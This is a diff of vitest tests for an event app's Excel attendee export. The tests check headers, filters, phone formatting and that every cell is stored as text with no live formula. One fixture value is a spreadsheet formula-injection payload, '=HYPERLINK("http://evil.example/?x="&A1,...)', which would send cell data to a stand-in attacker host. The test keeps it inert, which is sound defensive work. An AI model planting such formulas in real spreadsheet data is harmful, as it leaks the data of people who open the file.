@@ -2,7 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Ticket } from '../../src/tickets/service';
 import { type Dinner, makeDinner } from '../privacy/setup';
 import { GUESTS, type GuestKey, SHARES_WITH_HOST, seatMatrix } from './guests';
-import { bodyText, cellsSplitOn, checkFolding, isLiveFormula, readCsv, readVcards } from './parse';
+import { bodyText, cellsSplitOn, checkFolding, isLiveFormula, readCsv, readVcards, readXlsx } from './parse';
 
 let d: Dinner;
 let t: Record<GuestKey, Ticket>;
@@ -116,6 +116,85 @@ describe('CSV export (RFC 4180, BOM, formula-safe), read back with csv-parse', (
     const bad = await d.adminJson(`/events/${d.event.id}/export.csv?filter=everyone`);
     expect(bad.status).toBe(400);
     expect(((await bad.json()) as { error: { code: string } }).error.code).toBe('invalid_input');
+  });
+});
+
+describe('Excel export (.xlsx), read back by read-excel-file and from its XML', () => {
+  const getXlsx = async (filter = 'paid') => {
+    const res = await d.adminJson(`/events/${d.event.id}/export.xlsx?filter=${filter}`);
+    expect(res.status).toBe(200);
+    return { res, book: await readXlsx(new Uint8Array(await res.arrayBuffer())) };
+  };
+
+  it('is a download with the spreadsheet type, the same columns as the CSV, every value exactly as stored', async () => {
+    const { res, book } = await getXlsx();
+    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+    expect(res.headers.get('content-disposition')).toBe('attachment; filename="dinner-paid.xlsx"');
+    expect(res.headers.get('cache-control')).toContain('no-store');
+    const csv = readCsv((await get('csv', 'paid')).text);
+    const [header, ...rows] = book.values;
+    expect(header).toEqual(csv.header);
+    expect(rows).toHaveLength(Object.keys(GUESTS).length);
+    const cell = (row: (typeof rows)[number], column: string) => row[header!.indexOf(column)] ?? '';
+    for (const row of rows) {
+      const key = keyOf(String(cell(row, 'Name')));
+      const g: Record<string, string | undefined> = GUESTS[key];
+      const shares = SHARES_WITH_HOST[key];
+      // no apostrophe, no reformatting: the text as the guest typed it
+      expect(cell(row, 'Company'), key).toBe(shares ? g.company : '');
+      expect(cell(row, 'Role'), key).toBe(shares ? (g.role ?? 'CEO') : '');
+      expect(cell(row, 'Email'), key).toBe(shares ? t[key].email : '');
+      expect(cell(row, 'Phone'), key).toBe(shares ? (g.phone ?? '') : '');
+      expect(cell(row, 'Ask me about'), key).toBe(shares ? (g.askMeAbout ?? 'sailing') : '');
+      // the same attendance as the CSV
+      const csvRow = csv.rows.find((r) => r.Name === cell(row, 'Name'))!;
+      for (const column of csv.header.slice(7)) expect(cell(row, column), `${key} ${column}`).toBe(csvRow[column]);
+    }
+    const jorg = rows.find((r) => cell(r, 'Name') === GUESTS.both.name)!;
+    expect(cell(jorg, 'Company')).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Klick")');
+    expect(cell(jorg, 'Phone')).toBe('+49 69 123456');
+    expect(cell(jorg, 'Checked in (Europe/Berlin)')).toBe('2026-12-03 20:00');
+  });
+
+  it('holds text cells only: shared strings in the Text format, no formula anywhere', async () => {
+    const { book } = await getXlsx();
+    expect(book.anyFormula).toBe(false);
+    const filled = book.cells.filter((c) => c.text !== '');
+    expect(filled.length).toBeGreaterThan(40);
+    for (const c of filled) {
+      expect(c.type, c.ref).toBe('s');
+      expect(c.hasFormula, c.ref).toBe(false);
+      expect(c.numFmt, c.ref).toBe('@');
+    }
+    // what would have been a formula, a number or a date in a spreadsheet is text, exactly
+    const texts = filled.map((c) => c.text);
+    expect(texts).toEqual(
+      expect.arrayContaining([
+        GUESTS.both.company,
+        GUESTS.hostOnly.company,
+        '+49 69 123456',
+        '-49 30 98765',
+        '@Head of Sales',
+      ]),
+    );
+    for (const v of book.values.flat()) expect(v === null || typeof v === 'string', String(v)).toBe(true);
+  });
+
+  it('keeps the leading 0 and the + of phone numbers, which a spreadsheet drops from a CSV', async () => {
+    const { book } = await getXlsx();
+    const [header, ...rows] = book.values;
+    const phones = rows.map((r) => r[header!.indexOf('Phone')]).filter(Boolean);
+    expect(phones.sort()).toEqual(['+49 69 123456', '-49 30 98765', '0171 2345678'].sort());
+  });
+
+  it('filters like the other formats', async () => {
+    const names = async (filter: string) =>
+      (await getXlsx(filter)).book.values
+        .slice(1)
+        .map((r) => keyOf(String(r[0])))
+        .sort();
+    expect(await names('checked_in')).toEqual(['both', 'guestsOnly', 'hostOnly', 'none', 'withdrawn']);
+    expect(await names('greeted')).toEqual(['both', 'hostOnly']);
   });
 });
 
